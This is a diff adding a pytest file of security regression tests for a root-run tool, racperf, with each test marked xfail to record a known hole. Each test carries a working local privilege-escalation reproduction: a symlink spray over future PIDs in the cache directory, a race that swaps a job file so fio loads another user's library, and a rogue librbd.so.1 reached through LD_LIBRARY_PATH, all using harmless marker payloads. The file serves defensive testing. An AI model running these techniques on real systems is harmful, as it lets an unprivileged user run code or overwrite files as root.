@@ -1,0 +1,177 @@
+"""A third hostile pass (after issue 17's guard-tools and guard-kernel): racperf run as root by
+a caller whose environment names places another local user (here ``nobody``) can write. Each
+test is a real reproduction with real fio: the victim a file carrying an ASM header, the
+other user's code a library or a job file whose running leaves a marker.
+
+Found:
+- ``$XDG_CACHE_HOME`` in another user's directory: racperf writes fio's option table there as
+  ``fio-options-KEY.PID.tmp`` with an ordinary open that follows symbolic links (the key is
+  computable from fio's path, size and mtime): a link planted for every coming PID made root
+  overwrite a file with an ASM header. The cache is read without any vetting too.
+- A data directory (``--data-dir``, ``$RACPERF_DATA_DIR``, ``$XDG_DATA_HOME``) another user
+  owns: they make ``runs/N`` before racperf does (the next run id is readable), the supervisor
+  writes the judged ``job.fio`` there, and they swap it for their own before fio reads it:
+  fio loaded their ``ioengine=external:`` library as root (inside the jail, but root code).
+- ``$LD_LIBRARY_PATH`` naming another user's directory (what ``. oraenv`` leaves when
+  ``$ORACLE_HOME/lib`` is the oracle user's): fio, while planning and in the run, loads a
+  library of that directory as root. Only the program is vetted, not the loader's path.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import subprocess
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.helpers import needs_fio, needs_root, racperf_cmd
+from tests.helpers.loopdev import asm_file
+from tests.helpers.loopdev import sha256_of as digest
+
+pytestmark = [needs_fio, needs_root]
+
+NOBODY = 65534
+#: a Python the other user can execute (the venv's may live under root's 0700 home)
+SYSTEM_PYTHON = "/usr/bin/python3"
+#: options.py's _CACHE_VERSION as the attacker computes the cache key
+CACHE_VERSION = 2
+
+
+@pytest.fixture
+def open_dir() -> Iterator[Path]:
+    """A root-owned 0755 directory under /tmp: pytest's own are 0700, where nobody cannot go."""
+    path = Path(tempfile.mkdtemp(prefix="racperf-round3-", dir="/tmp"))
+    path.chmod(0o755)
+    try:
+        yield path
+    finally:
+        shutil.rmtree(path, ignore_errors=True)
+
+
+def _nobodys_dir(path: Path) -> Path:
+    path.mkdir(parents=True, exist_ok=True)
+    os.chown(path, NOBODY, NOBODY)
+    return path
+
+
+def _as_nobody(argv: list[str]) -> list[str]:
+    return ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *argv]
+
+
+def _read_file(path: Path) -> Path:
+    with open(path, "wb") as handle:
+        handle.write(os.urandom(4 << 20))
+    return path
+
+
+def _racperf_run_fio(data_dir: Path, data: Path, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
+    argv = [*racperf_cmd(), "run", "fio", "--data-dir", str(data_dir), "--"]
+    argv += ["--name=r", f"--filename={data}", "--size=4m", "--rw=read", "--bs=64k"]
+    return subprocess.run(argv, capture_output=True, text=True, timeout=180, env=env, cwd=cwd)
+
+
+@pytest.mark.xfail(strict=True, reason="hole: the fio option cache is written through a link in $XDG_CACHE_HOME")
+def test_the_fio_option_cache_never_writes_through_another_users_link(open_dir: Path) -> None:
+    victim = asm_file(open_dir / "asm.img")
+    data = _read_file(open_dir / "data.img")
+    before = digest(victim)
+    cache = _nobodys_dir(open_dir / "cache")
+    fio = os.path.realpath(shutil.which("fio") or "fio")
+    st = os.stat(fio)
+    key = hashlib.sha256(f"{fio}\0{st.st_size}\0{st.st_mtime_ns}\0{CACHE_VERSION}".encode()).hexdigest()[:20]
+    first = int(Path("/proc/sys/kernel/ns_last_pid").read_text())
+    # the other user plants a link for each PID to come (this machine spends PIDs fast)
+    spray = (
+        "import os, sys\n"
+        "d, key, victim, first = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])\n"
+        "os.makedirs(d + '/racperf', exist_ok=True)\n"
+        "for pid in range(first, first + 40000):\n"
+        "    os.symlink(victim, f'{d}/racperf/fio-options-{key}.{pid}.tmp')\n"
+    )
+    subprocess.run(_as_nobody([SYSTEM_PYTHON, "-c", spray, str(cache), key, str(victim), str(first)]), check=True)
+    env = dict(os.environ, XDG_CACHE_HOME=str(cache))
+    done = _racperf_run_fio(open_dir / "data", data, env, open_dir)
+    after = digest(victim)
+    assert after == before, f"root wrote the fio option table into {victim}: {victim.read_bytes()[:60]!r} {done.stderr}"
+
+
+@pytest.mark.xfail(strict=True, reason="hole: another user's data directory lets them swap the judged job file")
+def test_a_data_directory_of_another_user_cannot_swap_the_judged_job_file(open_dir: Path) -> None:
+    if not shutil.which("cc"):
+        pytest.skip("needs a C compiler for the other user's engine library")
+    data = _read_file(open_dir / "data.img")
+    data_dir = _nobodys_dir(open_dir / "data")
+    evil = _nobodys_dir(open_dir / "evil")
+    run_dir = data_dir / "runs" / "1"
+    marker = run_dir / "marker"
+    source = evil / "engine.c"
+    source.write_text(
+        "#include <stdio.h>\n"
+        "__attribute__((constructor)) static void ran(void) {\n"
+        f'  FILE *f = fopen("{marker}", "w"); if (f) {{ fputs("ran\\n", f); fclose(f); }}\n'
+        "}\n"
+    )
+    subprocess.run(["cc", "-shared", "-fPIC", "-o", str(evil / "engine.so"), str(source)], check=True)
+    os.chown(evil / "engine.so", NOBODY, NOBODY)
+    job = f"[x]\nfilename={data}\nrw=read\nsize=1m\nioengine=external:{evil / 'engine.so'}\n"
+    racer = (
+        "import os, sys, time\n"
+        "d, job = sys.argv[1], sys.argv[2]\n"
+        "os.makedirs(d, exist_ok=True)\n"
+        "end = time.time() + 120\n"
+        "while time.time() < end:\n"
+        "    try:\n"
+        "        if os.lstat(d + '/job.fio').st_uid != 0: continue\n"
+        "    except FileNotFoundError:\n"
+        "        continue\n"
+        "    with open(d + '/.swap', 'w') as f: f.write(job)\n"
+        "    os.rename(d + '/.swap', d + '/job.fio')\n"
+        "    break\n"
+    )
+    swapper = subprocess.Popen(_as_nobody([SYSTEM_PYTHON, "-c", racer, str(run_dir), job]))
+    try:
+        deadline = time.monotonic() + 10
+        while not run_dir.is_dir() and time.monotonic() < deadline:
+            time.sleep(0.05)
+        done = _racperf_run_fio(data_dir, data, dict(os.environ), open_dir)
+    finally:
+        swapper.kill()
+        swapper.wait()
+    assert not marker.exists(), f"fio loaded another user's library as root: {done.stdout[-300:]} {done.stderr}"
+    assert done.returncode != 0 and "data dir" in (done.stdout + done.stderr).lower()
+
+
+@pytest.mark.xfail(strict=True, reason="hole: $LD_LIBRARY_PATH of another user's directory reaches fio")
+def test_ld_library_path_of_another_user_never_reaches_fio(open_dir: Path) -> None:
+    fio = shutil.which("fio") or "fio"
+    needed = subprocess.run(["readelf", "-d", fio], capture_output=True, text=True).stdout
+    if "[librbd.so.1]" not in needed or not shutil.which("cc"):
+        pytest.skip("the stand-in library is built for an fio that needs librbd.so.1 (unversioned symbols)")
+    data = _read_file(open_dir / "data.img")
+    lib = _nobodys_dir(open_dir / "lib")
+    marker = open_dir / "marker"
+    marker.touch()
+    marker.chmod(0o666)
+    os.truncate(marker, 0)
+    symbols = subprocess.run(["objdump", "-T", fio], capture_output=True, text=True).stdout
+    stubs = sorted({line.split()[-1] for line in symbols.splitlines() if "*UND*" in line and " rbd_" in line})
+    source = lib / "rbd.c"
+    source.write_text(
+        "#include <stdio.h>\n"
+        "__attribute__((constructor)) static void ran(void) {\n"
+        f'  FILE *f = fopen("{marker}", "a"); if (f) {{ fputs("ran\\n", f); fclose(f); }}\n'
+        "}\n" + "".join(f"int {name}(void) {{ return -1; }}\n" for name in stubs)
+    )
+    out = lib / "librbd.so.1"
+    subprocess.run(["cc", "-shared", "-fPIC", "-Wl,-soname,librbd.so.1", "-o", str(out), str(source)], check=True)
+    os.chown(out, NOBODY, NOBODY)
+    env = dict(os.environ, LD_LIBRARY_PATH=str(lib))
+    done = _racperf_run_fio(open_dir / "data", data, env, open_dir)
+    assert marker.read_text() == "", f"fio loaded {out} as root: {done.stdout[-200:]} {done.stderr}"
+    assert done.returncode != 0 and str(lib) in done.stderr
